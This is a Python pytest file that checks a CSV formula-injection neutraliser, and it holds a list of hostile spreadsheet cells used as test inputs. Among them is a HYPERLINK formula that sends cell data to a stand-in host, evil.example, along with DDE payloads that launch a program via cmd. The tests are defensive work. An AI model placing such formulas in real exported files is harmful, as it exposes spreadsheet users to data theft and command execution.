"""Formula text in produced CSV files: hostile cells come out as text, the rest unchanged."""

from __future__ import annotations

import csv
import io

import pytest

from shared.csvsafe import BOM, csv_text, neutralise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_become_text(value: str) -> None:
    out = neutralise(value)
    assert isinstance(out, str)
    assert out == "'" + value  # the value itself is kept, only shown as text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("杭州甲科技有限公司", "杭州甲科技有限公司"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-12.5, -12.5),
        (42, 42),
        (True, "是"),
    ],
)
def test_harmless_cells_unchanged(value: object, expected: object) -> None:
    assert neutralise(value) == expected  # type: ignore[arg-type]


def test_file_round_trips_with_every_hostile_cell_neutralised() -> None:
    rows = [[v, i, -1.5] for i, v in enumerate(HOSTILE)]
    text = csv_text(["名称", "序号", "增长"], rows)
    assert text.startswith(BOM)
    parsed = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert parsed[0] == ["名称", "序号", "增长"]
    for (name, number, growth), original in zip(parsed[1:], HOSTILE, strict=True):
        assert name == "'" + original
        assert name[0] == "'"
        assert growth == "-1.5"  # a number stays a number
        assert number.isdigit()
